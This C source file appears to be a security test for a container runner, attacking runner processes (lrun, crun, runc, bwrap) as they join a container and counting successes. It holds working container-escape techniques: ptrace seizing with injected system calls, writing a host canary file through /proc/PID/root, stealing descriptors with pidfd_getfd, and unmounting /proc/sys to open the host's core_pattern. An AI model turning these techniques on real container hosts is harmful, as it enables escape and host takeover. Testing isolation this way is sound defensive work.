/* The process in a container that reaches for whoever comes near: static, needs nothing around it, ends by itself.

     attacker race SECONDS CANARY [nested] [parameter] [arguments]
     attacker arguments
     attacker terminal
     attacker leave SECONDS NAMESPACES
     attacker stay SECONDS
     attacker exit

   race: until SIGTERM, or until the time is over, it tries every process of its /proc that still is the runner's own
   program (or an uplink's), at full speed, and then prints for each kind of success how many processes it had it over:
   `seized=3`. CANARY is a file of the host's that is written to where the root of such a process can be opened, or by the
   process itself where it can be made to.
   `nested` first moves process 1 into a user namespace of its own and attacks from outside of that: all power over whoever
   joins process 1, without any capability that had to be given. `parameter` has a seized process take the read-only mount
   off /proc/sys and open the host's core_pattern for writing; nothing is written. `arguments` looks for a word of the caller's
   in what any process may read, the command line.

   stay, exit: does nothing for a time, until SIGTERM; or nothing at all. What else is run in a container that is attacked.

   arguments: the same of process 1.

   leave: ends when a process of it has gone into namespaces of its own (`mount`, `user,mount`, `user,mount,twice`) and a session
   of its own, where it stays for a time.

   terminal: what can be done to the caller's terminal through the standard streams.

   A process counts while its program is named as below. A command of the container's own is whoever's it likes. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum kind {
    SEEN, SEIZED, UNFILTERED, MADE_TO_CALL, PARAMETER, VM_READ, VM_WRITTEN, MEM, MAPS, ENVIRON, EXE, ROOT, CWD, FD, NS, GETFD,
    CANARY, ARGUMENTS, SIGNALLED, KINDS
};
static const char *const NAMES[KINDS] = {
    "seen", "seized", "unfiltered", "made_to_call", "parameter", "vm_read", "vm_written", "mem", "maps", "environ", "exe", "root",
    "cwd", "fd", "ns", "getfd", "canary", "arguments", "signalled"
};

/* Process numbers end below this (`PID_MAX_LIMIT`). */
#define PIDS (1 << 22)
/* How far around the newest process it looks in each round. */
#define BEHIND 32
#define AHEAD 3
/* What no command line that is seen inside may have. */
#define SECRET "secret-of-the-caller"

static uint8_t got[KINDS][PIDS / 8], done[PIDS / 8];
static long counts[KINDS];
static volatile sig_atomic_t over;
static const char *canary;
static int tries_parameter, tries_arguments, is_apart, own, others[2];
static uint64_t mounts[4096];
static size_t mount_count;

static int has(const uint8_t *set, int pid) { return set[pid / 8] >> (pid % 8) & 1; }

static void success(enum kind kind, int pid)
{
    if (!has(got[kind], pid)) {
        got[kind][pid / 8] |= (uint8_t)(1 << (pid % 8));
        counts[kind]++;
    }
}

static void stop(int signal)
{
    (void)signal;
    over = 1;
}

static void read_own_mounts(void)
{
    static char line[65536];
    FILE *file = fopen("/proc/self/mountinfo", "re");
    while (file && mount_count < sizeof mounts / sizeof *mounts && fgets(line, sizeof line, file))
        mounts[mount_count++] = strtoull(line, NULL, 10);
    if (file)
        fclose(file);
}

/* Whether a descriptor leads to a file or folder that none of the container's mounts shows. */
static int is_foreign(int fd)
{
    struct statx found;
    if (syscall(SYS_statx, fd, "", AT_EMPTY_PATH, STATX_TYPE | STATX_MNT_ID, &found) != 0)
        return 0;
    if (!(found.stx_mask & STATX_MNT_ID) || !(S_ISREG(found.stx_mode) || S_ISDIR(found.stx_mode)))
        return 0;
    for (size_t index = 0; index < mount_count; index++)
        if (mounts[index] == found.stx_mnt_id)
            return 0;
    return 1;
}

enum whose { GONE, THEIRS, HIDDEN, COMMANDS };

static int is_runner(const char *name)
{
    static const char *const PROGRAMS[] = { "lrun", "pasta", "passt", "slirp4netns", "crun", "runc", "bwrap", "nsenter" };
    for (size_t index = 0; index < sizeof PROGRAMS / sizeof *PROGRAMS; index++)
        if (!strncmp(name, PROGRAMS[index], strlen(PROGRAMS[index])))
            return 1;
    return 0;
}

static enum whose whose(int folder)
{
    char path[4096];
    ssize_t length = readlinkat(folder, "exe", path, sizeof path - 1);
    if (length < 0)
        return errno == EACCES || errno == EPERM ? HIDDEN : GONE;
    path[length] = 0;
    const char *name = strrchr(path, '/');
    name = name ? name + 1 : path;
    /* A runner that executes a copy of itself in memory. */
    if (!strncmp(name, "memfd:", 6))
        name += 6;
    return is_runner(name) ? THEIRS : COMMANDS;
}

static int is_named_as_runner(int folder)
{
    char name[32] = "";
    int file = openat(folder, "comm", O_RDONLY | O_CLOEXEC);
    if (file >= 0) {
        if (read(file, name, sizeof name - 1) < 0)
            name[0] = 0;
        close(file);
    }
    return is_runner(name);
}

static void write_canary(int root, int pid)
{
    if (!canary)
        return;
    int file = openat(root, canary + 1, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (file < 0)
        return;
    if (write(file, "dead\n", 5) == 5)
        success(CANARY, pid);
    close(file);
}

/* Whether a file below /proc/PID opens, which it does for those alone who may look into the process. */
static int opens(int folder, const char *name, int flags)
{
    char byte;
    int file = openat(folder, name, flags | O_CLOEXEC);
    if (file < 0)
        return 0;
    /* Of a process that has ended they are empty. */
    int is_open = flags != O_RDONLY || read(file, &byte, 1) == 1;
    close(file);
    return is_open;
}

static void try_files(int folder, int pid)
{
    uint8_t found[KINDS] = { 0 };
    enum whose before = whose(folder);
    if (before == COMMANDS || before == GONE)
        return;
    int root = openat(folder, "root", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (root >= 0) {
        found[ROOT] = (uint8_t)is_foreign(root);
        write_canary(root, pid);
        close(root);
    }
    int cwd = openat(folder, "cwd", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (cwd >= 0) {
        found[CWD] = (uint8_t)is_foreign(cwd);
        close(cwd);
    }
    char text[64];
    found[EXE] = (uint8_t)opens(folder, "exe", O_RDONLY);
    found[MEM] = (uint8_t)opens(folder, "mem", O_RDWR);
    found[MAPS] = (uint8_t)opens(folder, "maps", O_RDONLY);
    found[ENVIRON] = (uint8_t)opens(folder, "environ", O_RDONLY);
    found[NS] = readlinkat(folder, "ns/mnt", text, sizeof text) > 0;
    int fds = openat(folder, "fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    DIR *list = fds >= 0 ? fdopendir(fds) : NULL;
    for (struct dirent *entry; list && (entry = readdir(list));) {
        /* The streams are the container's in any case. */
        int file = atoi(entry->d_name) < 3 ? -1 : openat(fds, entry->d_name, O_PATH | O_CLOEXEC);
        if (file < 0)
            continue;
        found[FD] |= (uint8_t)is_foreign(file);
        close(file);
    }
    if (list)
        closedir(list);
    /* What was found may be that of the command which it has become meanwhile. */
    enum whose after = whose(folder);
    if (after == THEIRS || after == HIDDEN || (before == THEIRS && after == GONE))
        for (int kind = 0; kind < KINDS; kind++)
            if (found[kind])
                success((enum kind)kind, pid);
}

static int has_secret(int folder, const char *path)
{
    static char line[65536];
    int file = openat(folder, path, O_RDONLY | O_CLOEXEC);
    ssize_t length = file < 0 ? -1 : read(file, line, sizeof line);
    if (file >= 0)
        close(file);
    return length > 0 && memmem(line, (size_t)length, SECRET, strlen(SECRET)) != NULL;
}

static void try_descriptors(int folder, int pid)
{
    int process = (int)syscall(SYS_pidfd_open, pid, 0);
    if (process < 0)
        return;
    for (int number = 0; number < 16; number++) {
        int file = (int)syscall(SYS_pidfd_getfd, process, number, 0);
        if (file < 0) {
            if (errno == EBADF)
                continue;
            break;
        }
        enum whose now = whose(folder);
        if (now == THEIRS || now == HIDDEN)
            success(GETFD, pid);
        close(file);
    }
    close(process);
}

/* Whether a seized process stops, in which case it is stopped. */
static int waits(int pid, int *status)
{
    for (int tick = 0; tick < 20000; tick++) {
        int got_it = waitpid(pid, status, __WALL | WNOHANG);
        if (got_it == pid)
            return WIFSTOPPED(*status);
        if (got_it < 0)
            return 0;
        if (tick > 200)
            usleep(10);
    }
    return 0;
}

#ifdef __x86_64__
/* Has a stopped process make one system call, and answers as it does. */
static long make_call(int pid, long number, long first, long second, long third)
{
    struct user_regs_struct saved, now;
    int status;
    if (ptrace(PTRACE_GETREGS, pid, NULL, &saved) != 0)
        return -EPERM;
    errno = 0;
    long code = ptrace(PTRACE_PEEKTEXT, pid, saved.rip, NULL);
    if (errno)
        return -EPERM;
    /* syscall */
    if (ptrace(PTRACE_POKETEXT, pid, saved.rip, (code & ~0xffffL) | 0x050f) != 0)
        return -EPERM;
    now = saved;
    now.rax = (unsigned long long)number;
    now.orig_rax = (unsigned long long)-1;
    now.rdi = (unsigned long long)first;
    now.rsi = (unsigned long long)second;
    now.rdx = (unsigned long long)third;
    long answer = -EPERM;
    if (ptrace(PTRACE_SETREGS, pid, NULL, &now) == 0 && ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) == 0 && waits(pid, &status)
        && ptrace(PTRACE_GETREGS, pid, NULL, &now) == 0 && now.rip == saved.rip + 2)
        answer = (long)now.rax;
    ptrace(PTRACE_POKETEXT, pid, saved.rip, code);
    ptrace(PTRACE_SETREGS, pid, NULL, &saved);
    return answer;
}

static long put_text(int pid, const char *text)
{
    struct user_regs_struct now;
    char padded[256] = "";
    if (ptrace(PTRACE_GETREGS, pid, NULL, &now) != 0)
        return 0;
    strncpy(padded, text, sizeof padded - 1);
    long place = (long)((now.rsp - 4096) & ~15ULL);
    for (size_t index = 0; index < sizeof padded; index += sizeof(long)) {
        long word;
        memcpy(&word, padded + index, sizeof word);
        if (ptrace(PTRACE_POKEDATA, pid, place + (long)index, word) != 0)
            return 0;
    }
    return place;
}

static void command_it(int pid)
{
    struct user_regs_struct now;
    if (ptrace(PTRACE_GETREGS, pid, NULL, &now) == 0) {
        char there[16];
        struct iovec local = { there, sizeof there }, remote = { (void *)now.rsp, sizeof there };
        if (process_vm_readv(pid, &local, 1, &remote, 1, 0) == sizeof there) {
            success(VM_READ, pid);
            if (process_vm_writev(pid, &local, 1, &remote, 1, 0) == sizeof there)
                success(VM_WRITTEN, pid);
        }
    }
    if (make_call(pid, SYS_getppid, 0, 0, 0) < 0)
        return;
    success(MADE_TO_CALL, pid);
    /* With its root and its rights, in place of one's own. */
    long place = canary ? put_text(pid, canary) : 0;
    long file = place ? make_call(pid, SYS_open, place, O_WRONLY | O_APPEND, 0) : -1;
    if (file >= 0) {
        place = put_text(pid, "dead\n");
        if (place && make_call(pid, SYS_write, file, place, 5) == 5)
            success(CANARY, pid);
        make_call(pid, SYS_close, file, 0, 0);
    }
    if (!tries_parameter)
        return;
    place = put_text(pid, "/proc/sys");
    if (place)
        make_call(pid, SYS_umount2, place, 2 /* MNT_DETACH */, 0);
    place = put_text(pid, "/proc/sys/kernel/core_pattern");
    file = place ? make_call(pid, SYS_open, place, O_WRONLY, 0) : -1;
    if (file >= 0) {
        success(PARAMETER, pid);
        make_call(pid, SYS_close, file, 0, 0);
    }
}
#else
static void command_it(int pid) { (void)pid; }
#endif

static int is_unfiltered(int folder)
{
    char text[4096];
    int file = openat(folder, "status", O_RDONLY | O_CLOEXEC);
    ssize_t length = file < 0 ? -1 : read(file, text, sizeof text - 1);
    if (file >= 0)
        close(file);
    text[length > 0 ? length : 0] = 0;
    return strstr(text, "\nSeccomp:\t0") != NULL;
}

/* Whether there is such a process. */
static int try_seize(int folder, int pid)
{
    int status;
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) != 0)
        return errno != ESRCH;
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waits(pid, &status)) {
        enum whose now = whose(folder);
        /* Its memory is what was seized: who hides meanwhile is seized all the same. */
        if (now == THEIRS || now == HIDDEN) {
            success(SEIZED, pid);
            if (is_unfiltered(folder))
                success(UNFILTERED, pid);
            try_files(folder, pid);
            try_descriptors(folder, pid);
            command_it(pid);
        }
    }
    /* One that has not stopped yet cannot be let go, and would stop for good. */
    for (int turn = 0; ptrace(PTRACE_DETACH, pid, NULL, NULL) != 0 && turn < 50; turn++)
        waits(pid, &status);
    return 1;
}

static void try_process(int proc, int pid)
{
    char name[16];
    if (pid == own || pid == others[0] || pid == others[1] || pid <= 0 || pid >= PIDS || has(done, pid))
        return;
    /* Half of them are seized at once, half are looked at through files: the one would hide the other. */
    int seizes_first = pid >> 1 & 1;
    snprintf(name, sizeof name, "%d", pid);
    int folder = openat(proc, name, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (folder < 0)
        return;
    if (seizes_first && !try_seize(folder, pid))
        goto out;
    /* Who hides among a container's own processes is the runner, whatever its name. */
    if (is_named_as_runner(folder) || (is_apart && whose(folder) == HIDDEN)) {
        success(SEEN, pid);
        if (tries_arguments && has_secret(folder, "cmdline"))
            success(ARGUMENTS, pid);
        try_files(folder, pid);
        try_descriptors(folder, pid);
        if (kill(pid, 0) == 0)
            success(SIGNALLED, pid);
        if (!seizes_first)
            try_seize(folder, pid);
    } else if (whose(folder) == COMMANDS) {
        /* It has executed what it was to be. */
        done[pid / 8] |= (uint8_t)(1 << (pid % 8));
    }
out:
    close(folder);
}

/* The number of the newest process. */
static int newest(int loads)
{
    char text[128];
    ssize_t length = pread(loads, text, sizeof text - 1, 0);
    text[length > 0 ? length : 0] = 0;
    const char *last = strrchr(text, ' ');
    return last ? atoi(last) : 0;
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static int race(double seconds)
{
    int proc = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC), loads = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
    if (proc < 0 || loads < 0)
        return 1;
    own = getpid();
    is_apart = own == 1 || others[0] == 1;
    read_own_mounts();
    puts("ready");
    fflush(stdout);
    double end = now() + seconds, next_scan = 0;
    int before = newest(loads);
    for (unsigned round = 0; !over; round++) {
        if (round % 64 == 0 && now() > end)
            break;
        int last = newest(loads);
        if (last < before)
            memset(done, 0, sizeof done);
        for (int pid = before + 1; pid <= last + AHEAD && pid < PIDS; pid++)
            done[pid / 8] &= (uint8_t)~(1 << (pid % 8));
        before = last;
        for (int pid = last > BEHIND ? last - BEHIND : 1; pid <= last + AHEAD; pid++)
            try_process(proc, pid);
        if (round % 16 == 0 && now() > next_scan) {
            lseek(proc, 0, SEEK_SET);
            DIR *list = fdopendir(dup(proc));
            for (struct dirent *entry; list && (entry = readdir(list));)
                try_process(proc, atoi(entry->d_name));
            if (list)
                closedir(list);
            next_scan = now() + 0.01;
        }
    }
    for (int kind = 0; kind < KINDS; kind++)
        printf("%s=%ld\n", NAMES[kind], counts[kind]);
    puts("end");
    fflush(stdout);
    return 0;
}

/* Process 1 goes into a user namespace below the container's; comes back in a child that stays outside. */
static int leave_process_1_inside(void)
{
    int inside[2], go[2];
    char byte = 0;
    if (pipe(inside) != 0 || pipe(go) != 0)
        return -1;
    others[0] = getpid();
    int child = fork();
    if (child < 0)
        return -1;
    if (child > 0) {
        int status;
        if (unshare(CLONE_NEWUSER) != 0) {
            perror("unshare");
            return -1;
        }
        if (write(inside[1], &byte, 1) != 1)
            return -1;
        for (;;) {
            if (waitpid(child, &status, 0) == child)
                _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
            /* Told to end: so is who attacks. */
            if (over)
                kill(child, SIGTERM);
        }
    }
    if (read(inside[0], &byte, 1) != 1)
        return -1;
    for (int index = 0; index < 2; index++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/%s_map", others[0], index ? "gid" : "uid");
        int map = open(path, O_WRONLY | O_CLOEXEC);
        if (map < 0 || write(map, "0 0 1", 5) != 5) {
            perror(path);
            return -1;
        }
        close(map);
    }
    return 0;
}

static int terminal(void)
{
    char text[64];
    for (int fd = 0; fd < 3; fd++) {
        struct termios modes;
        printf("terminal%d=%d\n", fd, isatty(fd));
        snprintf(text, sizeof text, "/proc/self/fd/%d", fd);
        int again = open(text, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
        printf("opened%d=%d\n", fd, again >= 0 && isatty(again));
        if (again >= 0)
            close(again);
        int is_changed = tcgetattr(fd, &modes) == 0;
        if (is_changed) {
            modes.c_cc[VQUIT] = 'q';
            is_changed = tcsetattr(fd, TCSANOW, &modes) == 0;
        }
        printf("changed%d=%d\n", fd, is_changed);
    }
    puts("ready");
    fflush(stdout);
    ssize_t length[3] = { 0, 0, 0 };
    double end = now() + 0.3;
    while (now() < end)
        for (int fd = 1; fd < 3; fd++) {
            struct pollfd polled = { fd, POLLIN, 0 };
            if (poll(&polled, 1, 20) == 1 && polled.revents & POLLIN) {
                ssize_t got_now = read(fd, text, sizeof text);
                length[fd] += got_now > 0 ? got_now : 0;
            }
        }
    printf("read1=%zd\nread2=%zd\nend\n", length[1], length[2]);
    fflush(stdout);
    return 0;
}

static int put(const char *path, const char *text)
{
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file < 0 || write(file, text, strlen(text)) < 0) {
        perror(path);
        return 1;
    }
    return close(file);
}

/* A process of its own that leaves as many namespaces as it can, and stays. */
static int leave(const char *namespaces)
{
    int left[2];
    char byte = 0;
    if (pipe(left) != 0)
        return 1;
    int child = fork();
    if (child > 0) {
        close(left[1]);
        return read(left[0], &byte, 1) == 1 ? 0 : 1;
    }
    int flags = CLONE_NEWNS | (strstr(namespaces, "user") ? CLONE_NEWUSER : 0);
    if (child < 0 || setsid() < 0)
        return 1;
    for (int turn = strstr(namespaces, "twice") ? 2 : 1; turn > 0; turn--) {
        if (unshare(flags) != 0) {
            perror("unshare");
            return 1;
        }
        /* Who has no id cannot make another. */
        if (flags & CLONE_NEWUSER && (put("/proc/self/setgroups", "deny") || put("/proc/self/uid_map", "0 0 1")
                                      || put("/proc/self/gid_map", "0 0 1")))
            return 1;
    }
    /* Nobody waits for its end by its streams. */
    int null = open("/dev/null", O_RDWR);
    for (int fd = 0; fd < 3; fd++)
        if (dup2(null, fd) < 0)
            return 1;
    return write(left[1], &byte, 1) == 1 ? -1 : 1;
}

int main(int argc, char **argv)
{
    const char *word = argc > 1 ? argv[1] : "";
    double seconds = argc > 2 ? atof(argv[2]) : 0;
    struct sigaction action = { .sa_handler = stop };
    sigaction(SIGTERM, &action, NULL);
    if (!strcmp(word, "terminal"))
        return terminal();
    if (!strcmp(word, "arguments")) {
        printf("arguments=%d\n", has_secret(AT_FDCWD, "/proc/1/cmdline"));
        return 0;
    }
    int left = -1;
    if (!strcmp(word, "leave") && (left = leave(argc > 3 ? argv[3] : "")) >= 0)
        return left;
    if (!strcmp(word, "stay") || !strcmp(word, "leave")) {
        for (double end = now() + seconds; !over && now() < end;)
            usleep(10000);
        return 0;
    }
    if (!strcmp(word, "exit"))
        return 0;
    if (strcmp(word, "race"))
        return 64;
    int is_nested = 0;
    for (int index = 3; index < argc; index++) {
        if (!strcmp(argv[index], "nested"))
            is_nested = 1;
        else if (!strcmp(argv[index], "parameter"))
            tries_parameter = 1;
        else if (!strcmp(argv[index], "arguments"))
            tries_arguments = 1;
        else
            canary = argv[index];
    }
    if (is_nested && leave_process_1_inside() != 0)
        return 2;
    return race(seconds);
}
